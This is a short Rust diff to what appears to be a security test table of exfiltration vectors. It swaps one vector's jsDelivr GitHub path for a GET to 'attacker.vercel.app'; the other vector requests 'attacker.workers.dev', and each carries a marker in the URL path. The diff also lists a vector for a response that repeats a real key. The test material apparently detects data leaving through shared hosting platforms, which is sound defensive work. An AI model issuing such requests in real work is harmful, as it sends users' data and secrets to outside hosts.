@@ -64,7 +64,7 @@ pub(super) const VECTORS: &[Vector] = &[
     held(57, Channels, "hosts on which anybody may have a corner", SEEN, |_, mark| {
         any_of([
             https("GET", "attacker.workers.dev", &format!("/{mark}"), &[], ""),
-            https("GET", "cdn.jsdelivr.net", &format!("/gh/attacker/x/{mark}"), &[], ""),
+            https("GET", "attacker.vercel.app", &format!("/{mark}"), &[], ""),
         ])
     }),
     held(58, Channels, "an answer that repeats the real key", Got, reflected),
